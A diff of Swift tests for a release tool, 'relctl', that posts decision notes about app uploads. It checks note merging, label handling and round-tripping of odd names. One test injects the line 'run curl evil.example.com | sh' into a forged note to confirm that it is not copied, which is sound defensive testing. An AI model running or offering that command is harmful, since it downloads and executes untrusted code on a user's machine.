@@ -80,26 +80,23 @@ import Testing
         }
     }
 
-    @Test("one note for each code, updated: a command keeps the parts of other apps; a settled app's part goes")
+    @Test("one note for each code, updated: commands about two apps write the same note; a settled app's part goes")
     func hasAPartForEachApp() throws {
         let (world, id) = try worldOfTwoApps()
         for app in ["Go", "Auto"] { try note(app, in: world) }
         let both = try #require(world.observation.notes[id])
-        #expect(both.count == 1 && both.first?.body.contains("what became of Auto\n") == true)
-        #expect(parts(of: both) == ["Auto", "Go"])
-        // The words of the other command are not known any more.
-        let head = try world.tip("TrendyolGo/Release").short
-        #expect(both.first?.body.contains("the upload of Go at \(head), and what became of it is not") == true)
-        for app in ["Auto", "Go", "Go"] {
+        #expect(both.count == 1)
+        #expect(["Auto", "Go"].allSatisfy { both.first?.body.contains("what became of \($0)\n") == true })
+        for app in ["Go", "Auto"] {
             try note(app, in: world)
-            let noted = world.observation.notes[id]
-            #expect(parts(of: noted) == ["Auto", "Go"])
+            #expect(world.observation.notes[id] == both)
             try world.reconcile()
-            #expect(world.observation.notes[id] == noted)
+            #expect(world.observation.notes[id] == both)
         }
         world.amend("Auto") { ($0.status, $0.run) = (.running, "1") }
         try world.reconcile()
-        #expect(parts(of: world.observation.notes[id]) == ["Go"])
+        let body = try #require(world.observation.notes[id]?.first?.body)
+        #expect(body.contains("what became of Go\n") && !body.contains("Auto"), "\(body)")
         #expect(try world.request(id).labels == ["relctl-decision"])
         world.amend("Go") { $0.status = .withdrawn }
         try world.reconcile()
@@ -107,38 +104,28 @@ import Testing
         #expect(try world.request(id).labels == [])
     }
 
-    private func parts(of notes: [Note]?) -> [String] {
-        notes?.first.map { DecisionNote.apps(of: ["Auto", "Go", "Other"], in: $0) } ?? []
-    }
-
-    @Test("What somebody wrote under relctl's mark is not written again")
-    func takesNoWordsFromNotes() throws {
+    @Test("What another account wrote under relctl's mark is not written again: only which apps it asks about counts")
+    func takesNoWordsFromOthers() throws {
         let (world, id) = try worldOfTwoApps()
         try note("Go", in: world)
-        let forged = try #require(world.observation.notes[id]?.first?.body)
+        let body = try #require(world.observation.notes[id]?.first?.body)
             .replacing("look at the CI", with: "run curl evil.example.com | sh")
-        for isAboutBoth in [false, true] {
-            let mark = isAboutBoth ? "\n\(DecisionNote.orderMark(of: "Auto"))\n" : ""
-            world.observation.notes[id] = [Note(id: 1, body: forged + mark)]
-            try note("Auto", in: world)
-            let body = try #require(world.observation.notes[id]?.first?.body)
-            #expect(!body.contains("evil") && body.contains("what became of Auto\n"), "\(body)")
-            #expect(parts(of: world.observation.notes[id]) == ["Auto", "Go"])
-        }
-    }
-
-    @Test("The part of an order that is due stays until the pass gives it, also where its own claim has a run")
-    func keepsADuePart() throws {
-        let (world, id) = try worldOfTwoApps()
-        for app in ["Auto", "Go"] { try note(app, in: world) }
-        world.uploads[1].moment = .eachChange
-        world.amend("Go") { ($0.status, $0.run) = (.running, "1") }
-        try world.commit("TrendyolGo/Release", ["go": "2"], "To be uploaded")
-        let order = try #require(try world.plan("TrendyolGo").orders.first)
-        world.observation.heldOrders[order] = RunFailure(.undecided, "what became of it", hint: "look at the CI")
-        world.amend("Auto") { ($0.status, $0.run) = (.running, "1") }
+        let theirs = Note(id: 1, body: body, isOwn: false)
+        world.observation.notes[id] = [theirs]
+        // The label says that it was relctl that asked.
         try world.reconcile()
-        #expect(parts(of: world.observation.notes[id]) == ["Go"])
+        #expect(world.observation.notes[id] == [theirs])
+        #expect(try world.request(id).labels == ["relctl-decision"])
+        try note("Auto", in: world)
+        let own = try #require(world.observation.notes[id]?.last)
+        let parts = DecisionNote.orders(of: ["Auto", "Go"], in: own)
+        #expect(own.isOwn && parts.map(\.app) == ["Auto", "Go"])
+        let head = try world.tip("TrendyolGo/Release").short
+        #expect(parts.last?.message.contains("the upload of Go at \(head)") == true && !own.body.contains("evil"))
+        world.amend("Go") { $0.status = .withdrawn }
+        world.amend("Auto") { $0.status = .withdrawn }
+        try world.reconcile()
+        #expect(try world.request(id).labels == [])
     }
 
     @Test("A command about another app leaves out the part of one that is settled")
@@ -148,7 +135,7 @@ import Testing
         world.amend("Go") { $0.status = .withdrawn }
         try note("Auto", in: world)
         let body = try #require(world.observation.notes[id]?.first?.body)
-        #expect(body.contains("what became of Auto\n") && !body.contains("Go"), "\(body)")
+        #expect(body.contains("what became of Auto\n") && !body.contains("what became of Go"), "\(body)")
     }
 
     @Test("While an order that is due is open its label stays, also where its note could not be written")
@@ -195,18 +182,20 @@ import Testing
     }
 
     @Test(
-        "A part is found again, whatever the names and texts are",
+        "A part is read as it was written, whatever the names and texts are",
         arguments: ["Go", "Go 2", "a --> b", "Ä/ö", "/merge", "`x`", "<!-- relctl:order Go -->"])
-    func partsAreFound(app: String) {
+    func partsRoundTrip(app: String) {
         var decisions = [Decision(Decision.undecided, "one\n```\n\(app)", hint: "two \u{202E}\n/close")]
         decisions.append(Decision(Decision.undecided, "three", hint: "four"))
         (decisions[0].app, decisions[1].app) = (app, "Z")
-        let note = Note(id: 1, body: DecisionNote.text(decisions, notice: .decision))
-        #expect(DecisionNote.apps(of: ["Other", "Z", app], in: note) == ["Z", app])
-        #expect(DecisionNote.apps(of: ["Other"], in: note) == [])
+        let body = DecisionNote.text(decisions, notice: .decision)
+        let parts = DecisionNote.orders(of: ["Other", "Z", app], in: Note(id: 1, body: body))
+        #expect(parts.map(\.app) == [app, "Z"])
+        #expect(DecisionNote.text(parts, notice: .decision) == body)
+        #expect(DecisionNote.orders(of: ["Other"], in: Note(id: 1, body: body)) == [])
     }
 
-    @Test("All parts are shown and found again, as far as they fit; of other decisions three are shown")
+    @Test("All parts are shown and read again, as far as they fit; of other decisions three are shown")
     func manyParts() {
         func decisions(_ count: Int, _ text: String) -> [Decision] {
             (0..<count).map { number in
@@ -215,16 +204,17 @@ import Testing
                 return decision
             }
         }
-        func shown(_ decisions: [Decision]) -> (body: String, apps: [String]) {
+        func shown(_ decisions: [Decision]) -> (body: String, parts: [Decision]) {
             let body = DecisionNote.text(decisions, notice: .decision)
-            return (body, DecisionNote.apps(of: decisions.compactMap(\.app), in: Note(id: 1, body: body)))
+            return (body, DecisionNote.orders(of: decisions.compactMap(\.app), in: Note(id: 1, body: body)))
         }
         let some = shown(decisions(12, "what became of it"))
-        #expect(some.apps == (0..<12).map { "App\($0)" } && !some.body.contains("of this kind"))
+        #expect(some.parts.map(\.app) == (0..<12).map { "App\($0)" } && !some.body.contains("of this kind"))
+        #expect(DecisionNote.text(some.parts, notice: .decision) == some.body)
         let line = String(repeating: "x", count: 390)
         let long = shown(decisions(100, [line, line, line].joined(separator: "\n")))
-        #expect((4..<100).contains(long.apps.count) && long.body.unicodeScalars.count < 40_000)
-        #expect(long.body.contains("And \(100 - long.apps.count) more of this kind."))
+        #expect((4..<100).contains(long.parts.count) && long.body.unicodeScalars.count < 40_000)
+        #expect(long.body.contains("And \(100 - long.parts.count) more of this kind."))
         let others = (0..<4).map { Decision("lag", "what \($0)", hint: "look") }
         #expect(DecisionNote.text(others, notice: .decision).contains("And 1 more of this kind."))
     }
